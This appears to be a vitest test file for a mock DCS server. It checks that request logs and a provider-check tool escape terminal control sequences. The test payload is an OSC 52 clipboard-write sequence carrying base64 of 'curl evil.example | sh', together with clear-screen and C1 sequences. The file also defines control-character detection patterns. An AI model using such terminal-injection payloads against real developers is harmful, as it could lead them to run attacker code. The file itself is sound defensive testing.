// mock-dcs logs one line per request to the terminal it runs in (`npm start`, `mock-dcs`
// without --quiet), and any web page the developer visits can make the browser send it a
// request (`<img src="http://dcs.localhost:4100/event?d_mid=…">`, no CORS needed). Values the
// page chose reach the line inside error messages (101 names the bad d_mid, 102 the bad
// d_uuid): raw terminal control sequences in them retitle the terminal, rewrite what it shows,
// or, where the terminal allows OSC 52 (Windows Terminal, kitty, tmux with set-clipboard),
// put a command of the page's choosing on the developer's clipboard.
import { spawn } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startContentProvider, startMockDcs, type MockDcs } from '../src/index';
import { call } from './helpers';

const lines: string[] = [];
let dcs: MockDcs;

// ESC ] 52 ; c ; <base64 "curl evil.example | sh"> BEL, then ESC [ 2 J (clear screen) and a C1 CSI.
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const payload = `${OSC52}\u001b[2J\u009b31m`;
/** C0 controls (tab aside), DEL and C1 controls: nothing a log line needs, everything a terminal obeys. */
const CONTROL = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/;
const CONTROL_BUT_NEWLINE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

beforeAll(async () => {
  dcs = await startMockDcs({ log: (line) => lines.push(line) });
});
afterAll(() => dcs.close());

describe('the request log and terminal control sequences', () => {
  it('a value the page chose reaches the log line, but no control character does', async () => {
    const value = encodeURIComponent(payload);
    await call(dcs.port, `/event?d_rtbd=json&d_mid=${value}&d_uuid=${value}&c_x=${value}`);
    await call(dcs.port, `/id?d_orgid=${value}&d_mid=${value}&d_rtbd=json`);
    const mine = lines.filter((line) => line.includes('52;c;Y3Vyb'));
    // The log still says what came (escaped), so a person can read it.
    expect(mine.length).toBeGreaterThan(0);
    for (const line of lines) expect(line).not.toMatch(CONTROL);
  });
});

// The built command (npm test builds before it runs the unit tests).
const providerCheck = new URL('../bin/mock-dcs-provider-check.js', import.meta.url).pathname;

describe('mock-dcs-provider-check and terminal control sequences', { timeout: 30_000 }, () => {
  it("prints an endpoint's segments as text, never as control sequences", async () => {
    const provider = await startContentProvider({ dcsUrl: 'http://dcs.localhost:4100', dpid: 777, segmentsFor: () => [`golf${payload}`] });
    try {
      const stdout = await new Promise<string>((resolve, reject) => {
        const child = spawn(process.execPath, [providerCheck, `${provider.url}/segments?uid=\${DPUUID}`, '--runs', '1']);
        let out = '';
        child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
        child.on('error', reject);
        child.on('close', () => resolve(out));
      });
      expect(stdout).toContain('segments answered: golf\\u001b]52;c;');
      expect(stdout).not.toMatch(CONTROL_BUT_NEWLINE);
    } finally {
      await provider.close();
    }
  });
});
